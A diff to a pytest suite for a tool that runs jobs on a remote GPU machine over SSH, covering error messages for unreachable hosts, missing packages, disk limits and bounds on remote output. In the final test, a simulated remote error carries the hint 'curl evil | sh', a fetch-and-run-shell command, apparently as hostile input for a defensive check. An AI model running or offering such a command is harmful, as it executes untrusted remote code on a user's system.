@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import io
 import json
+import queue
 import sys
 import zipfile
 
@@ -23,9 +24,9 @@ from .stub import SSH, Lines, StubTree, request, run
 @pytest.mark.parametrize(
     ("changes", "said", "hint"),
     [
-        ({"UserKnownHostsFile": "no_hosts"}, "cannot be reached: Host key verification failed", "fingerprint"),
-        ({"UserKnownHostsFile": "other_hosts"}, "cannot be reached: Host key verification failed", "fingerprint"),
-        ({"IdentityFile": "stranger_key"}, "cannot be reached: ", "IdentityFile in ~/.ssh/config"),
+        ({"UserKnownHostsFile": "no_hosts"}, "has a host key that is not known here", "fingerprint"),
+        ({"UserKnownHostsFile": "other_hosts"}, "has another host key than the one that is known", "ssh-keygen -R"),
+        ({"IdentityFile": "stranger_key"}, "refuses the login: ", "IdentityFile in ~/.ssh/config"),
         ({"Port": 1}, "cannot be reached: ssh: connect to host 127.0.0.1 port 1: Connection refused", "as ssh sees it"),
         ({"HostName": "nowhere.invalid"}, "cannot be reached: ssh: Could not resolve hostname", "as ssh sees it"),
     ],
@@ -37,7 +38,7 @@ def test_a_machine_that_cannot_be_reached_says_why(machine, server, python, chan
     }
     machine(**places)
     before = (server.folder / "no_hosts").read_text()
-    result, lines = run("finish", python=python())
+    (result,), lines = run("finish", python=python())
     assert str(result.error).startswith(f"gpu {said}")
     assert hint in result.error.hint
     assert not isinstance(result.error, MachineLostError)
@@ -48,7 +49,7 @@ def test_a_machine_that_cannot_be_reached_says_why(machine, server, python, chan
 @SSH
 def test_a_machine_without_torch_says_which_pythons_it_has(machine, python):
     bare = python(flags="-S -E")
-    result, _ = run("finish", python=bare)
+    (result,), _ = run("finish", python=bare)
     version = f"Python {sys.version_info[0]}.{sys.version_info[1]}"
     assert str(result.error).startswith(f"gpu: no Python there can run this: {bare}: {version} has no torch and no tri")
     assert "--python" in result.error.hint
@@ -56,14 +57,14 @@ def test_a_machine_without_torch_says_which_pythons_it_has(machine, python):
 
 @SSH
 def test_a_python_that_is_not_there_is_named(machine, tmp_path):
-    result, _ = run("finish", python=str(tmp_path / "no python"))
+    (result,), _ = run("finish", python=str(tmp_path / "no python"))
     assert f"there is no {tmp_path}/no python" in str(result.error)
 
 
 @SSH
 @pytest.mark.parametrize(("limit", "said"), [(0, "No usable temporary directory"), (1, "File too large")])
 def test_a_machine_without_space_says_so(machine, python, limit, said):
-    result, _ = run("finish", python=python(f"ulimit -f {limit}"), tree=StubTree(more=1 << 20))
+    (result,), _ = run("finish", python=python(f"ulimit -f {limit}"), tree=StubTree(more=1 << 20))
     assert str(result.error).startswith("gpu: the tree cannot be unpacked: ")
     assert said in str(result.error)
     assert "let TMPDIR name a folder that has some" in str(result.error)
@@ -105,7 +106,7 @@ NO_INDEX = "export PIP_NO_INDEX=1"
 @SSH
 def test_missing_packages_come_from_the_index_that_the_machine_has(machine, python, wheels):
     there = python(NO_INDEX, f"export PIP_FIND_LINKS='{wheels}'")
-    result, lines = run("tell", python=there, requirements=NEEDED)
+    (result,), lines = run("tell", python=there, requirements=NEEDED)
     assert result.error is None
     assert lines.notes == ["installing made-up>=3 for this run", "made_up 3.1"]
 
@@ -114,7 +115,7 @@ def test_missing_packages_come_from_the_index_that_the_machine_has(machine, pyth
 def test_wheels_travel_to_a_machine_without_an_index(machine, python, wheels, monkeypatch):
     monkeypatch.setenv("PIP_NO_INDEX", "1")
     monkeypatch.setenv("PIP_FIND_LINKS", str(wheels))
-    result, lines = run("tell", python=python(NO_INDEX, "unset PIP_FIND_LINKS"), requirements=NEEDED)
+    (result,), lines = run("tell", python=python(NO_INDEX, "unset PIP_FIND_LINKS"), requirements=NEEDED)
     assert result.error is None
     assert "no package index there" in lines.notes[1]
     assert lines.notes[2:] == ["sending made_up-3.1-py3-none-any.whl", "made_up 3.1"]
@@ -155,7 +156,7 @@ def test_wheels_travel_to_a_machine_whose_index_does_not_answer(tmp_path, wheels
 @SSH
 def test_packages_that_nobody_has_end_the_run_with_a_hint(machine, python, monkeypatch):
     monkeypatch.setenv("PIP_NO_INDEX", "1")
-    result, lines = run("tell", python=python(NO_INDEX), requirements=NEEDED)
+    (result,), lines = run("tell", python=python(NO_INDEX), requirements=NEEDED)
     assert "wheels for that machine cannot be downloaded here: " in str(result.error)
     assert result.error.hint == "install them there: pip install 'made-up>=3'"
     assert lines.started == []
@@ -195,7 +196,7 @@ ASKED = {"event": "wheels wanted", "requirements": ["numpy>=1.26,<2.4"], **HERE}
     ],
 )
 def test_a_machine_chooses_neither_packages_nor_options_of_pip(changes, monkeypatch):
-    session = _Session(Host("gpu"), request("tell"), {"requirements": REQUIREMENTS}, b"", 1.0)
+    session = _Session(Host("gpu"), queue.Queue(), request("tell"), {"requirements": REQUIREMENTS}, b"", 1.0)
     ran: list[object] = []
     monkeypatch.setattr(session, "tell", lambda *_: None)
     monkeypatch.setattr("flashmoe_science.proof.remote.wheels.subprocess.run", lambda *given, **_: ran.append(given))
@@ -224,10 +225,10 @@ def test_a_gate_that_a_machine_tells_of_is_bounded():
 
 
 def test_what_a_machine_says_is_bounded():
-    session = _Session(Host("gpu"), request("tell"), {}, b"", 1.0)
+    session = _Session(Host("gpu"), queue.Queue(), request("tell"), {}, b"", 1.0)
     for _ in range(10_000):
         session._hear('{"event": "note", "line": "again"}')
-        session.said.get()
+        session._said.get()
     with pytest.raises(RemoteError, match="it says more than 10000 things"):
         session._hear('{"event": "note", "line": "again"}')
     session._hear(json.dumps({"event": "error", "message": "x" * 10**6, "hint": "curl evil | sh"}))
